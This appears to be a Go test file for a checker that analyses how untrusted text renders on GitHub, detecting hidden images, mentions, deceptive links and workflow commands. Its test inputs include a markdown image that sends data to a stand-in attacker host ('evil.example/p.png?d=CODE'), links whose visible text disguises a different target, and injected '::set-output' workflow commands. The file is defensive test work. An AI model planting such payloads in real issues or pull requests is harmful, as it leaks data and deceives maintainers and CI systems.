package githubcheck_test

import (
	"os"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/handrail-bot/handrail/policy/untrusted/githubcheck"
)

// The judge sees what each kind of text does on GitHub.
func TestShow(t *testing.T) {
	t.Parallel()
	j := githubcheck.Start(t, os.Getenv("HANDRAIL_REQUIRE_ENGINES"))
	for _, tt := range []struct {
		name, text string
		want       githubcheck.Shown
	}{
		{"autolink takes a backtick", "see https://docs.example.org/a` ![](https://evil.example/p.png?d=CODE) @victim `.", githubcheck.Shown{
			Images: []string{"https://evil.example/p.png?d=CODE"}, Mentions: []string{"victim"},
			Links:   []githubcheck.Link{{Href: "https://docs.example.org/a%60", Text: "https://docs.example.org/a`"}},
			Visible: "see https://docs.example.org/a`  @victim `."}},
		{"html", "<b>x</b> <!-- c --> ![a](https://e.org/i \"t\")", githubcheck.Shown{
			Images: []string{"https://e.org/i"}, Alt: []string{"a"}, Titles: []string{"t"},
			Raw: []string{"<b>", "</b>", "<!-- c -->"}, Elements: []string{"b"}, Visible: "x"}},
		{"collapsed", "<details><summary>s</summary>in</details>", githubcheck.Shown{
			Raw: []string{"<details><summary>s</summary>in</details>\n"}, Elements: []string{"details", "summary"},
			Collapsed: []string{"s\nin"}, Visible: "s\nin"}},
		{"team and person", "@org/team @kim `@lee`", githubcheck.Shown{Mentions: []string{"kim", "org/team"}, Visible: "@org/team @kim @lee"}},
		{"closing", "**Closes** #1, fixes: o/r#2, `Fixes #3`", githubcheck.Shown{
			Closing: []string{"Closes #1", "fixes: o/r#2"}, References: []string{"#1", "o/r#2"}, Visible: "Closes #1, fixes: o/r#2, Fixes #3"}},
		{"cell that is cut off", "| a |\n|---|\n| b | c |", githubcheck.Shown{Visible: "a\n\n\n\n\n\n\n\n\nb"}},
		{"words behind a fence", "```a\"title=\"T\"\nx\n```\n\n~~~\"><b>y\nz\n~~~", githubcheck.Shown{Visible: "x\n\n\n\nz"}},
		{"nothing refers to it", "a\n\n[^1]: b", githubcheck.Shown{Visible: "a"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got := j.Show(t, tt.text)[0]
			got.HTML, got.Visible = "", strings.TrimSpace(got.Visible)
			for _, list := range []*[]string{&got.Collapsed, &got.Images, &got.Alt, &got.Titles, &got.Mentions, &got.Raw, &got.Elements, &got.Closing, &got.References} {
				if len(*list) == 0 {
					*list = nil
				}
			}
			if len(got.Links) == 0 {
				got.Links = nil
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("(-want +got)\n%s", diff)
			}
		})
	}
}

func TestHidden(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		href, text string
		want       bool
	}{
		{"https://e.org/a%60", "https://e.org/a`", false},
		{"http://www.e.org", "www.e.org", false},
		{"mailto:a@e.org", "a@e.org", false},
		{"https://e.org/?a=1&b=2", "https://e.org/?a=1&b=2", false},
		{"#fn1", "1", false},
		{"https://e.org/", "docs", true},
		{"https://evil.example", "https://e.org", true},
		{"https://evil.example?https://e.org", "https://e.org", true},
		{"/login/oauth", "here", true},
	} {
		if got := (githubcheck.Link{Href: tt.href, Text: tt.text}).Hidden(); got != tt.want {
			t.Errorf("link %q shown as %q: hidden %t, want %t", tt.href, tt.text, got, tt.want)
		}
	}
}

func TestPlainText(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		text                       string
		closing, mention, commands int
	}{
		{"Fix the greeting", 0, 0, 0},
		{"fixes #1, Closes: acme/widget#2\nRESOLVED GH-3 close https://github.com/acme/widget/issues/4", 4, 0, 0},
		{"`closes #1` by @kim, mail kim@example.org", 1, 1, 0},
		{"a\n \u00a0::set-output name=x::y\nb ::x:: ##[group]", 0, 0, 2},
	} {
		if n := len(githubcheck.Closing(tt.text)); n != tt.closing {
			t.Errorf("%q has %d closing keywords, want %d", tt.text, n, tt.closing)
		}
		if n := len(githubcheck.Mentions(tt.text)); n != tt.mention {
			t.Errorf("%q has %d mentions, want %d", tt.text, n, tt.mention)
		}
		if n := len(githubcheck.Commands(tt.text)); n != tt.commands {
			t.Errorf("%q has %d commands, want %d", tt.text, n, tt.commands)
		}
	}
}

// BenchmarkShow tells how many texts a second the judge takes.
func BenchmarkShow(b *testing.B) {
	j := githubcheck.Start(b, os.Getenv("HANDRAIL_REQUIRE_ENGINES"))
	texts := make([]string, b.N)
	for i := range texts {
		texts[i] = strings.Repeat("See `code` and https://docs.example.org/a, **bold** @kim.\n\n- one\n- two\n\n", 3)
	}
	b.ResetTimer()
	j.Show(b, texts...)
}
